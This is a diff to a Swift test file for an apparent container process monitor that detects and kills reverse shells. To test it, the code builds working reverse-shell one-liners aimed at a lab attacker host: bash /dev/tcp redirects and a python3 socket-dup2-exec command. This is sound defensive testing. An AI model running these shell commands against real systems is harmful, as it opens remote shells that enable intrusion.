@@ -43,11 +43,13 @@ struct ProcessMonitorTests {
             return stat(mount + container.cgroup, &status) == 0 ? UInt64(status.st_ino) : 0
         }
 
-        /// `bash -c "<command>"` started by a shell whose stdio is a TCP connection to the attacker.
+        /// `bash -c "<command>"` exec'd with a TCP connection to the attacker
+        /// on its stdio, by a program the names do not call a shell (python,
+        /// here), so the dup2s before the exec are not the shell's own.
         func reverseShell(running command: String) throws -> Shell.Result {
             try lab.exec(
                 in: container,
-                ["bash", "-c", "bash -c '\(command)' >& /dev/tcp/\(attacker.ipv4)/\(Self.listenerPort) 0>&1"], check: false)
+                ProcessMonitorTests.pythonExecs(["bash", "-c", command], connectedTo: attacker.ipv4, port: Self.listenerPort), check: false)
         }
 
         func execs(named comm: String) throws -> [ExecRecord] {
@@ -55,6 +57,15 @@ struct ProcessMonitorTests {
                 if case .exec(let record) = event, record.comm == comm { record } else { nil }
             }
         }
+    }
+
+    /// python connects, makes the connection its fds 0-2 and execs `program`.
+    static func pythonExecs(_ program: [String], connectedTo address: String, port: UInt16) -> [String] {
+        let arguments = program.map { "\"\($0)\"" }.joined(separator: ",")
+        return [
+            "python3", "-c",
+            "import socket,os;s=socket.create_connection((\"\(address)\",\(port)));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/\(program[0])\",[\(arguments)])"
+        ]
     }
 
     @Test func execsInPodsAreReportedWithContainerAndStdioAndHostExecsAreNot() throws {
@@ -107,6 +118,23 @@ struct ProcessMonitorTests {
         #expect(socket.remotePort == ContainerLab.listenerPort)
         #expect(killed.stdioSockets.count == 3, "fd 0, 1 and 2 are all the connection")
         #expect(env.monitor.counters.kills >= 1)
+    }
+
+    @Test func aShellRedirectingItsOwnStdioToASocketIsKilledAsTheDupReturns() throws {
+        let env = try ContainerLab(kills: .reverseShell)
+        _ = try env.monitor.drain()
+        try env.lab.exec(
+            in: env.container,
+            ["bash", "-c", "exec 5<>/dev/tcp/\(env.attacker.ipv4)/\(ContainerLab.listenerPort); exec 0<&5 1>&5 2>&5; touch /shared/ran"],
+            check: false)
+        #expect(!FileManager.default.fileExists(atPath: env.container.sharedDirectory + "/ran"))
+        let redirects = try env.monitor.drain().compactMap { if case .stdioRedirect(let redirect) = $0 { redirect } else { nil } }
+        let redirect = try #require(redirects.first, "no dup2 seen: \(env.monitor.redirectsUnavailable ?? "")")
+        #expect(redirect.killed)
+        #expect(redirect.fd == 0, "killed at the first dup onto stdio")
+        #expect(redirect.comm == "bash")
+        #expect(redirect.socket.remote.description == env.attacker.ipv4)
+        #expect(redirect.socket.remotePort == ContainerLab.listenerPort)
     }
 
     @Test func withoutTheKillSwitchTheReverseShellRunsAndIsReported() throws {
